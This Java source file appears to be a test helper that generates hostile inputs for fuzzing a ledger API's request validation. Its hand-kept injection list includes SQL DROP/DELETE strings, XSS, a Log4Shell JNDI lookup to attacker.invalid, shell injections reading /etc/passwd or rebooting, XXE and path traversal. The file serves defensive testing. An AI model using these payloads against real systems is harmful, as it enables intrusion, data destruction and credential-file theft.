package org.unionledger.api.hostile;

import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import org.unionledger.api.hostile.ApiOperations.Schema;

/**
 * Hostile values, as raw JSON text (so lone surrogates, 1e400, -0 and NaN can be written at all),
 * drawn from jqwik 1.9.3 arbitraries with a seeded {@link Random} plus hand-kept lists.
 *
 * <p>A value is <em>hard</em> when the ledger must refuse any request carrying it (wrong JSON type,
 * a number no field can hold, a negative amount, a string longer than the documented maximum);
 * <em>soft</em> when it could be legitimate (an injection string is a valid memo), so the corpus
 * pairs a soft value with a hard fault elsewhere: hostile requests must never write an event.
 */
final class HostileValues {

    /** SQL, script, template, shell and formula injection: hand-kept. */
    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE domainevententry; --",
            "x'); DELETE FROM tokenentry; --",
            "1' OR '1'='1",
            "\" OR 1=1 --",
            "1; SELECT pg_sleep(5); --",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)",
            "{{7*7}}${7*7}<%= 7*7 %>",
            "${jndi:ldap://attacker.invalid/a}",
            "%s%s%s%s%n",
            "=cmd|' /C calc'!A0",
            "; cat /etc/passwd",
            "`reboot`",
            "$(touch /tmp/pwned)",
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "{\"$where\": \"1 == 1\"}",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");

    /** Unicode tricks: hand-kept (RTL override, zero-width, combining, NUL, BOM, look-alikes, astral). */
    static final List<String> UNICODE = List.of(
            "abc\u202Egnp.exe",
            "a\u200Db\u200Dc\u200B\u200C",
            "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
            "a\u0000b",
            "\u0000",
            "\uFEFFfund",
            "\u00A0\u2007\u202F",
            "\uFF41\uFF44\uFF4D\uFF49\uFF4E",
            "\u0130stanbul",
            "\uD835\uDD18\uD835\uDD2B\uD835\uDD26",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "line\r\nX-Injected: yes",
            "\u0085\u2028\u2029",
            " ",
            "");

    /** Escaped lone surrogates and bad escapes, written straight into the JSON text. */
    static final List<String> RAW_STRING_TOKENS = List.of(
            "\"\\ud800\"",
            "\"x\\udfffy\"",
            "\"\\udbff\\udbff\"",
            "\"\\u0000\\u0000\"");

    private static final Arbitrary<String> TRICKY_TEXT = Arbitraries.strings()
            .withChars("\u202E\u202D\u200D\u200B\u0301\u0300\u0000\uFEFF<>'\";%\\/&")
            .withCharRange('a', 'z')
            .ofMinLength(1).ofMaxLength(60);

    private static final Arbitrary<String> ANY_TEXT = Arbitraries.strings().all().ofMinLength(1).ofMaxLength(40);

    private static final Arbitrary<Long> NEGATIVE = Arbitraries.longs().between(Long.MIN_VALUE, -1)
            .edgeCases(edges -> edges.add(-1L));

    private static final Arbitrary<BigInteger> BEYOND_LONG = Arbitraries.bigIntegers()
            .between(BigInteger.valueOf(Long.MAX_VALUE).add(BigInteger.ONE), BigInteger.TEN.pow(40));

    private static final Arbitrary<String> FRACTION = Arbitraries.bigDecimals()
            .between(new java.math.BigDecimal("-1000000"), new java.math.BigDecimal("1000000")).ofScale(3)
            .filter(d -> d.stripTrailingZeros().scale() > 0)
            .map(java.math.BigDecimal::toPlainString);

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    /** A hostile value with the reason it is hostile and whether every request carrying it must fail. */
    record Hostile(String label, String json, boolean hard) {
    }

    <T> T draw(Arbitrary<T> arbitrary) {
        return arbitrary.generator(100, true).next(random).value();
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    String trickyText() {
        return draw(TRICKY_TEXT);
    }

    String anyText() {
        return draw(ANY_TEXT);
    }

    long negative() {
        return draw(NEGATIVE);
    }

    /** Hostile values for a property with this schema (name given: amounts are stricter than counts). */
    List<Hostile> forProperty(String name, Schema schema, boolean required) {
        List<Hostile> values = new ArrayList<>();
        values.add(new Hostile("null", "null", required));
        values.add(new Hostile("object", "{\"$ne\":null}", !"object".equals(schema.type())));
        values.add(new Hostile("array", "[[[]]]", !"array".equals(schema.type())));
        if (schema.isNumber()) {
            boolean amount = name.toLowerCase().endsWith("fen") || name.toLowerCase().contains("amount");
            values.add(new Hostile("negative", Long.toString(negative()), true));
            values.add(new Hostile("long-min", Long.toString(Long.MIN_VALUE), true));
            values.add(new Hostile("beyond-long", draw(BEYOND_LONG).toString(), schema.isInteger()));
            values.add(new Hostile("1e400", pick(List.of("1e400", "-1e400", "1E+400")), true));
            values.add(new Hostile("1000-digits", "9".repeat(1200), true));
            values.add(new Hostile("zero", "0", amount && "amountFen".equals(name)));
            values.add(new Hostile("minus-zero", "-0", amount && "amountFen".equals(name)));
            values.add(new Hostile("long-max", Long.toString(Long.MAX_VALUE), false));
            values.add(new Hostile("nan-string", pick(List.of("\"NaN\"", "\"Infinity\"", "\"-Infinity\"")), true));
            values.add(new Hostile("nan-token", pick(List.of("NaN", "Infinity", "-Infinity", "+1", "0x10", "01")),
                    true));
            values.add(new Hostile("numeric-string", "\"100\"", true));
            values.add(new Hostile("string", quote(pick(INJECTIONS)), true));
            values.add(new Hostile("boolean", "true", true));
            if (schema.isInteger()) {
                values.add(new Hostile("fraction", draw(FRACTION), true));
                values.add(new Hostile("exponent", pick(List.of("1e2", "1.0", "12.50", "5E0")), true));
            }
        } else if ("boolean".equals(schema.type())) {
            values.add(new Hostile("string-bool", pick(List.of("\"true\"", "\"yes\"", "\"1\"")), true));
            values.add(new Hostile("number-bool", pick(List.of("1", "0")), true));
        } else if ("array".equals(schema.type())) {
            values.add(new Hostile("scalar", quote(pick(INJECTIONS)), true));
            values.add(new Hostile("array-of-nulls", "[null,null]", true));
            values.add(new Hostile("array-of-junk", "[" + quote(trickyText()) + "," + negative() + "]", true));
            values.add(new Hostile("empty-array", "[]", required));
        } else if ("object".equals(schema.type())) {
            values.add(new Hostile("scalar", quote(pick(INJECTIONS)), true));
        } else {
            // Jackson coerces scalars into strings ("-1"), so these may be valid: soft.
            values.add(new Hostile("number", Long.toString(negative()), false));
            values.add(new Hostile("boolean", "false", false));
            if (!schema.enumValues().isEmpty()) {
                values.add(new Hostile("enum-injection", quote(pick(INJECTIONS)), true));
                values.add(new Hostile("enum-lowercase", quote(schema.enumValues().get(0).toLowerCase()), true));
                values.add(new Hostile("enum-unicode", quote(schema.enumValues().get(0) + "\u200D"), true));
            } else if ("date".equals(schema.format()) || "date-time".equals(schema.format())) {
                values.add(new Hostile("date-invalid", quote(pick(List.of("2026-02-30", "2026-13-01", "yesterday",
                        "+999999999-12-31", "-000001-01-01", "2026-1-1", "0000-00-00", "1e400"))), true));
                values.add(new Hostile("date-injection", quote(pick(INJECTIONS)), true));
            } else {
                values.add(new Hostile("injection", quote(pick(INJECTIONS)), false));
                values.add(new Hostile("injection", quote(pick(INJECTIONS)), false));
                values.add(new Hostile("unicode", quote(pick(UNICODE)), false));
                values.add(new Hostile("unicode-generated", quote(trickyText()), false));
                values.add(new Hostile("any-unicode-generated", quote(anyText()), false));
                values.add(new Hostile("lone-surrogate", pick(RAW_STRING_TOKENS), false));
                // NUL cannot be stored in PostgreSQL text: refused in any field, so sent unpaired.
                values.add(new Hostile("nul", pick(List.of("\"memo\\u0000\"", "\"\\u0000\"",
                        quote(trickyText() + "\u0000"))), true));
                int limit = schema.maxLength() != null ? schema.maxLength() : 4000;
                int length = limit + 1 + random.nextInt(Math.max(1, Math.min(20_000, limit * 3)));
                values.add(new Hostile("too-long(" + length + ")",
                        quote(draw(Arbitraries.strings().alpha().numeric().ofLength(length))),
                        schema.maxLength() != null));
                values.add(new Hostile("other-org", quote("district-1"), false));
            }
        }
        return values;
    }

    /** Path segments: traversal, encoded slashes and NULs, injections, unicode, very long. Already URL-encoded. */
    List<Hostile> forPathSegment() {
        List<Hostile> values = new ArrayList<>();
        for (String raw : List.of("..", "%2e%2e", "..%2F..%2Factuator", "a%2Fb", "a%5Cb", "%00", "a%00b", "%252e%252e",
                ";jsessionid=x", "%2e", "..;", "%ff%fe", "%c0%ae%c0%ae", "%E2%80%AE", "~root", "*")) {
            values.add(new Hostile("path:" + raw, raw, true));
        }
        values.add(new Hostile("path:injection", encode(pick(INJECTIONS)), true));
        values.add(new Hostile("path:injection", encode(pick(INJECTIONS)), true));
        values.add(new Hostile("path:unicode", encode(pick(UNICODE.subList(0, 12))), true));
        values.add(new Hostile("path:generated", encode(trickyText()), true));
        values.add(new Hostile("path:long", draw(Arbitraries.strings().alpha().ofLength(3000 + random.nextInt(6000))),
                true));
        return values;
    }

    /** Query values (URL-encoded) for a query parameter with this schema. */
    List<Hostile> forQuery(Schema schema) {
        List<Hostile> values = new ArrayList<>();
        values.add(new Hostile("query:injection", encode(pick(INJECTIONS)), false));
        values.add(new Hostile("query:unicode", encode(pick(UNICODE)), false));
        values.add(new Hostile("query:nul", "%00", false));
        values.add(new Hostile("query:long", "x".repeat(5000), false));
        if (schema.isNumber()) {
            values.add(new Hostile("query:negative", Long.toString(negative()), false));
            values.add(new Hostile("query:beyond-long", draw(BEYOND_LONG).toString(), false));
            values.add(new Hostile("query:1e400", "1e400", false));
            values.add(new Hostile("query:fraction", draw(FRACTION), false));
            values.add(new Hostile("query:nan", "NaN", false));
            values.add(new Hostile("query:zero", "0", false));
        } else {
            values.add(new Hostile("query:date-like", pick(List.of("2026-13", "0000-00", "-1", "99999-01", "2026-02-30")),
                    false));
        }
        return values;
    }

    /** JSON string literal, escaping every non-ASCII character so lone surrogates survive as text. */
    static String quote(String text) {
        StringBuilder json = new StringBuilder(text.length() + 2).append('"');
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                json.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7e) {
                json.append(String.format("\\u%04x", (int) c));
            } else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }

    /** Percent-encodes every byte of the UTF-8 form except unreserved characters. */
    static String encode(String text) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : text.getBytes(java.nio.charset.StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xff);
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '_'
                    || c == '~') {
                encoded.append(c);
            } else {
                encoded.append('%').append(String.format("%02X", b & 0xff));
            }
        }
        return encoded.toString();
    }
}
